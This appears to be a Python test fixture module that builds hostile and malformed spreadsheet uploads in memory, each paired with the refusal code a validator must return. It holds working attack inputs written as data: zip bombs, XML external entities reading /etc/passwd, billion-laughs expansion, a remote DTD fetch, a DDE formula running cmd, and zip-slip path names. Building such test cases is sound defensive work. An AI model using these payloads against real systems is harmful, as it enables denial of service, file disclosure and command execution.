"""Files that mean harm or are not what they say, made in memory; each with the code of the refusal it must meet."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.app.papers.sheets import saved, start_plan

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
Parts = dict[str, bytes | str]


def honest() -> bytes:
    """A start plan with nothing wrong in it."""
    return saved(start_plan())


def honest_parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(honest())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return kept.getvalue()


def with_part(name: str, content: bytes | str) -> bytes:
    """The honest workbook with one part added or put in place of its own."""
    return packed({**honest_parts(), name: content})


def sheet_xml(rows: str, *, before: str = "", after: str = "", head: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{head}<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
    )


def with_sheet(rows: str, **more: str) -> bytes:
    return with_part(SHEET, sheet_xml(rows, **more))


def text_cell(place: str, text: str) -> str:
    return f'<row><c r="{place}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def with_relation(kind: str, target: str, *, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return with_part(
        "xl/worksheets/_rels/sheet1.xml.rels",
        f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{line}</Relationships>',
    )


def with_content_type(old: str, new: str) -> bytes:
    parts = honest_parts()
    content = bytes(parts["[Content_Types].xml"]).decode()
    assert old in content
    return packed({**parts, "[Content_Types].xml": content.replace(old, new)})


# Bombs.


def bomb_of_noughts() -> bytes:
    return with_part("xl/media/image1.png", b"\x00" * (60 * 1024 * 1024))


def bomb_in_the_sheet() -> bytes:
    return with_part(SHEET, sheet_xml(" " * (60 * 1024 * 1024)))


def bomb_by_sum() -> bytes:
    noise = bytes(range(256)) * 4096
    return packed({**honest_parts(), **{f"xl/media/{n}.bin": noise * 9 for n in range(12)}}, zipfile.ZIP_DEFLATED)


def many_entries() -> bytes:
    return packed({**honest_parts(), **{f"xl/media/{number}.txt": b"a" for number in range(600)}})


def lying_about_its_size() -> bytes:
    """The directory says 100 bytes, the stream holds ten megabytes."""
    data = bytearray(with_part("xl/media/image1.bin", b"A" * (10 * 1024 * 1024)))
    for signature, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.rfind(signature, 0, data.rfind(b"xl/media/image1.bin") if signature == b"PK\x01\x02" else None)
        if signature == b"PK\x03\x04":
            at = data.rfind(signature)
        data[at + place : at + place + 4] = struct.pack("<I", 100)
    return bytes(data)


def overlapping_entries() -> bytes:
    """Two names in the directory share one stretch of bytes."""
    data = bytearray(packed({**honest_parts(), "xl/a.bin": b"A" * 500, "xl/b.bin": b"A" * 500}))
    first, second = data.find(b"PK\x03\x04", data.find(b"xl/a.bin") - 60), data.find(b"xl/b.bin")
    start = data.rfind(b"PK\x01\x02", 0, data.rfind(b"xl/b.bin"))
    assert first < second < start
    data[start + 42 : start + 46] = struct.pack("<I", data.rfind(b"PK\x03\x04", 0, data.find(b"xl/a.bin")))
    return bytes(data)


def nested_zip() -> bytes:
    return with_part("xl/media/inner.png", packed({"deep.txt": b"A" * 1000}))


def nested_deep() -> bytes:
    inner = packed({"0.txt": b"\x00" * 1_000_000})
    for level in range(8):
        inner = packed({f"{level}.zip": inner})
    return with_part("xl/media/inner.dat", inner)


def shared_text_bomb(rows: int = 5000) -> bytes:
    """A text of 30,000 signs, named by 5,000 cells: 20 KB that become 150 million signs."""
    parts = honest_parts()
    parts["xl/sharedStrings.xml"] = f'<?xml version="1.0"?><sst xmlns="{MAIN}"><si><t>{"A" * 30_000}</t></si></sst>'
    line = f'<Relationship Id="shared" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    beside = bytes(parts["xl/_rels/workbook.xml.rels"]).decode().replace("</Relationships>", line)
    parts["xl/_rels/workbook.xml.rels"] = beside
    cells = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(1, rows + 1))
    parts[SHEET] = sheet_xml(cells)
    return packed(parts)


def long_cell() -> bytes:
    return with_sheet(text_cell("B2", "长" * 40_000))


def far_corner() -> bytes:
    """Two cells at the ends of a sheet: a reader that sets aside the area wants 17 thousand million cells."""
    return with_sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def far_column() -> bytes:
    return with_sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>')


def wide_area() -> bytes:
    """Within the rows and columns allowed, yet twelve million cells in area."""
    return with_sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="50000"><c r="IV50000"><v>1</v></c></row>')


def too_many_cells(rows: int = 6_100) -> bytes:
    digits = random.Random(1)
    lines = ("".join(f"<c><v>{digits.randrange(10**9)}</v></c>" for _ in range(100)) for _ in range(rows))
    return with_sheet("".join(f"<row>{line}</row>" for line in lines))


def many_sheets() -> bytes:
    book = Workbook()
    for number in range(70):
        book.create_sheet(f"表{number}")
    return saved(book)


def many_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A{row}:B{row}"/>' for row in range(1, 20_100))
    return with_sheet(text_cell("A1", "a"), after=f"<mergeCells>{merges}</mergeCells>")


def overlapping_merges() -> bytes:
    merges = '<mergeCell ref="A1:CV5000"/>' * 500
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="5000"><c r="CV5000"><v>1</v></c></row>'
    return with_sheet(rows, after=f"<mergeCells>{merges}</mergeCells>")


# Entities.


def external_entity() -> bytes:
    head = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return with_sheet(text_cell("A1", "&e;"), head=head)


def billion_laughs() -> bytes:
    levels = "".join(
        f'<!ENTITY l{n} "{"".join([f"&l{n - 1};"] * 10)}">' if n else '<!ENTITY l0 "哈">' for n in range(10)
    )
    return with_sheet(text_cell("A1", "&l9;"), head=f"<!DOCTYPE x [{levels}]>")


def quadratic_blowup() -> bytes:
    head = f'<!DOCTYPE x [<!ENTITY a "{"A" * 50_000}">]>'
    return with_sheet(text_cell("A1", "&a;" * 20_000), head=head)


def parameter_entity() -> bytes:
    return with_sheet("", head='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>')


def entity_in_shared_strings() -> bytes:
    return with_part(
        "xl/sharedStrings.xml", f'<!DOCTYPE x [<!ENTITY e "x">]><sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    )


def entity_in_relations() -> bytes:
    return with_part(
        "xl/_rels/workbook.xml.rels", f'<!DOCTYPE x [<!ENTITY e "x">]><Relationships xmlns="{RELS}"></Relationships>'
    )


def entity_in_properties() -> bytes:
    return with_part("docProps/core.xml", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]><x>&e;</x>')


def entity_in_utf16() -> bytes:
    content = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><worksheet>&e;</worksheet>'
    return with_part(SHEET, content.encode("utf-16"))


def undefined_entity() -> bytes:
    return with_sheet(text_cell("A1", "&unknown;"))


def deep_nesting() -> bytes:
    return with_sheet("<a>" * 50_000 + "</a>" * 50_000)


# Programs and links.


def with_macro() -> bytes:
    return with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 512)


def macro_content_type() -> bytes:
    return with_content_type("spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml")


def template() -> bytes:
    return with_content_type("sheet.main+xml", "template.main+xml")


def macro_sheet() -> bytes:
    return with_part("xl/macrosheets/sheet1.xml", "<x/>")


def embedded_program() -> bytes:
    return with_part("xl/embeddings/oleObject1.bin", b"MZ" + b"\x00" * 100)


def control() -> bytes:
    return with_part("xl/activeX/activeX1.xml", "<x/>")


def external_book() -> bytes:
    return with_part("xl/externalLinks/externalLink1.xml", "<x/>")


def connection() -> bytes:
    return with_part("xl/connections.xml", "<x/>")


def remote_picture() -> bytes:
    return with_relation("image", "http://192.0.2.1/pixel.png", external=True)


def remote_template() -> bytes:
    return with_relation("attachedTemplate", "file://192.0.2.1/share/x.dotm", external=True)


def dde() -> bytes:
    return with_sheet("<row><c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>")


def formula_elsewhere() -> bytes:
    return with_sheet('<row><c r="A1"><f>[1]Sheet1!A1</f><v>7</v></c></row>')


def formula_to_a_share() -> bytes:
    return with_sheet("<row><c r=\"A1\"><f>'\\\\192.0.2.1\\x\\[b.xlsx]S'!A1</f><v>7</v></c></row>")


# Names within the archive.


def named(name: str) -> Callable[[], bytes]:
    return lambda: with_part(name, b"x")


def name_with_nought() -> bytes:
    return with_part("xl/media/aZb.txt", b"x").replace(b"xl/media/aZb.txt", b"xl/media/a\x00b.txt")


def same_name_twice() -> bytes:
    return with_part("XL/Worksheets/Sheet1.xml", b"<x/>")


def symbolic_link() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for name, content in honest_parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("xl/media/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return kept.getvalue()


def locked_entry() -> bytes:
    data = bytearray(honest())
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def odd_packing() -> bytes:
    return packed(honest_parts(), zipfile.ZIP_LZMA)


# Broken.


def cut_off() -> bytes:
    return honest()[:-200]


def bit_flipped() -> bytes:
    data = bytearray(packed(honest_parts(), zipfile.ZIP_STORED))
    data[data.find(b"<sheetData>") + 3] ^= 0x20
    return bytes(data)


def broken_deflate() -> bytes:
    data = bytearray(honest())
    place = data.find(SHEET.encode()) + len(SHEET) + 20
    data[place : place + 40] = b"\xff" * 40
    return bytes(data)


def no_workbook() -> bytes:
    parts = honest_parts()
    del parts["xl/workbook.xml"]
    return packed(parts)


def no_sheet_part() -> bytes:
    parts = honest_parts()
    del parts[SHEET]
    return packed(parts)


def unclosed_xml() -> bytes:
    return with_part(SHEET, sheet_xml("<row>")[:-30])


def shared_text_missing() -> bytes:
    return with_sheet('<row><c r="A1" t="s"><v>99999</v></c></row>')


def place_out_of_reach() -> bytes:
    return with_sheet('<row><c r="ZZZZ99999999"><v>1</v></c></row>')


def row_without_number() -> bytes:
    return with_sheet('<row r="一"><c r="A1"><v>1</v></c></row>')


def same_sheet_name_twice() -> bytes:
    parts = honest_parts()
    content = bytes(parts["xl/workbook.xml"]).decode()
    start, end = content.index("<sheet "), content.index("/>", content.index("<sheet ")) + 2
    return packed({**parts, "xl/workbook.xml": content[:end] + content[start:end] + content[end:]})


# Other kinds of file.


def compound(stream: str) -> Callable[[], bytes]:
    return lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + stream.encode("utf-16-le") + b"\x00" * 512


def file_of(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def office_file(*names: str) -> Callable[[], bytes]:
    types = f'<?xml version="1.0"?><Types xmlns="{TYPES}"/>'
    return lambda: packed({"[Content_Types].xml": types, **dict.fromkeys(names, b"<x/>")})


def open_document() -> bytes:
    return packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"})


def too_big_a_file() -> bytes:
    return b"PK\x03\x04" + zlib.compress(b"x") * 1 + b"\x01" * (21 * 1024 * 1024)


HTML = "<html><body><table><tr><td>项目备案</td></tr></table></body></html>"
XML_2003 = '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'

HOSTILE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "bomb-of-noughts": (bomb_of_noughts, "bomb"),
    "bomb-in-the-sheet": (bomb_in_the_sheet, "bomb"),
    "bomb-by-sum": (bomb_by_sum, "bomb"),
    "many-entries": (many_entries, "too-many-entries"),
    "lying-about-its-size": (lying_about_its_size, "broken"),
    "overlapping-entries": (overlapping_entries, "overlap"),
    "nested-zip": (nested_zip, "nested"),
    "nested-deep": (nested_deep, "nested"),
    "shared-text-bomb": (shared_text_bomb, "too-much-text"),
    "long-cell": (long_cell, "long-cell"),
    "far-corner": (far_corner, "too-many-rows"),
    "far-column": (far_column, "too-many-columns"),
    "wide-area": (wide_area, "too-many-cells"),
    "too-many-cells": (too_many_cells, "too-many-cells"),
    "many-sheets": (many_sheets, "too-many-sheets"),
    "many-merges": (many_merges, "too-many-merges"),
    "overlapping-merges": (overlapping_merges, "broken"),
    "external-entity": (external_entity, "entities"),
    "billion-laughs": (billion_laughs, "entities"),
    "quadratic-blowup": (quadratic_blowup, "entities"),
    "parameter-entity": (parameter_entity, "entities"),
    "entity-in-shared-strings": (entity_in_shared_strings, "entities"),
    "entity-in-relations": (entity_in_relations, "entities"),
    "entity-in-properties": (entity_in_properties, "entities"),
    "entity-in-utf16": (entity_in_utf16, "entities"),
    "undefined-entity": (undefined_entity, "broken"),
    "deep-nesting": (deep_nesting, "too-deep"),
    "macro": (with_macro, "macro"),
    "macro-content-type": (macro_content_type, "macro"),
    "template": (template, "template"),
    "macro-sheet": (macro_sheet, "macro"),
    "embedded-program": (embedded_program, "embedded"),
    "control": (control, "embedded"),
    "external-book": (external_book, "external"),
    "connection": (connection, "external"),
    "remote-picture": (remote_picture, "external"),
    "remote-template": (remote_template, "external"),
    "dde": (dde, "dde"),
    "formula-elsewhere": (formula_elsewhere, "external"),
    "formula-to-a-share": (formula_to_a_share, "external"),
    "slip-upwards": (named("../../etc/cron.d/x"), "bad-name"),
    "slip-within": (named("xl/../../x"), "bad-name"),
    "slip-absolute": (named("/etc/passwd"), "bad-name"),
    "slip-windows": (named("..\\..\\x"), "bad-name"),
    "slip-drive": (named("C:/x"), "bad-name"),
    "long-name": (named("xl/" + "n" * 300), "bad-name"),
    "name-with-nought": (name_with_nought, "bad-name"),
    "same-name-twice": (same_name_twice, "bad-name"),
    "symbolic-link": (symbolic_link, "bad-name"),
    "locked-entry": (locked_entry, "locked-entry"),
    "odd-packing": (odd_packing, "odd-packing"),
    "cut-off": (cut_off, "broken"),
    "bit-flipped": (bit_flipped, "broken"),
    "broken-deflate": (broken_deflate, "broken"),
    "no-workbook": (no_workbook, "not-a-book"),
    "no-sheet-part": (no_sheet_part, "broken"),
    "unclosed-xml": (unclosed_xml, "broken"),
    "shared-text-missing": (shared_text_missing, "broken"),
    "place-out-of-reach": (place_out_of_reach, "broken"),
    "row-without-number": (row_without_number, "broken"),
    "same-sheet-name-twice": (same_sheet_name_twice, "broken"),
    "old-xls": (compound("Workbook"), "old-xls"),
    "encrypted": (compound("EncryptedPackage"), "encrypted"),
    "old-word": (compound("WordDocument"), "old-word"),
    "other-compound": (compound("Something"), "ole"),
    "word": (office_file("word/document.xml"), "word"),
    "word-with-macro": (office_file("word/document.xml", "word/vbaProject.bin"), "word-macro"),
    "slides": (office_file("ppt/presentation.xml"), "slides"),
    "binary-book": (office_file("xl/workbook.bin"), "binary-book"),
    "open-document": (open_document, "ods"),
    "plain-zip": (lambda: packed({"a.txt": b"x"}), "not-a-book"),
    "html-as-xls": (file_of(HTML.encode()), "html"),
    "html-in-gbk": (file_of(HTML.encode("gbk")), "html"),
    "xml-of-2003": (file_of(XML_2003.encode()), "xml-book"),
    "csv": (file_of("项目名称,金额\n一号,12\n".encode()), "text-file"),
    "csv-in-gbk": (file_of("项目名称,金额\n一号,12\n".encode("gbk")), "text-file"),
    "csv-in-utf16": (file_of("项目名称\t金额\n".encode("utf-16")), "text-file"),
    "pdf": (file_of(b"%PDF-1.7\n"), "pdf"),
    "picture": (file_of(b"\x89PNG\r\n\x1a\n"), "picture"),
    "rar": (file_of(b"Rar!\x1a\x07\x00"), "archive"),
    "seven-zip": (file_of(b"7z\xbc\xaf\x27\x1c"), "archive"),
    "gzip": (file_of(b"\x1f\x8b\x08\x00"), "archive"),
    "empty": (file_of(b""), "empty-file"),
    "noughts": (file_of(b"\x00" * 1000), "empty-file"),
    "program": (file_of(b"MZ\x90\x00\x03\x00\x00\x00"), "unknown-file"),
    "too-big-a-file": (too_big_a_file, "file-too-big"),
}


def first_sheet(book: Workbook) -> Worksheet:
    """The first worksheet, typed."""
    sheet = book.worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet
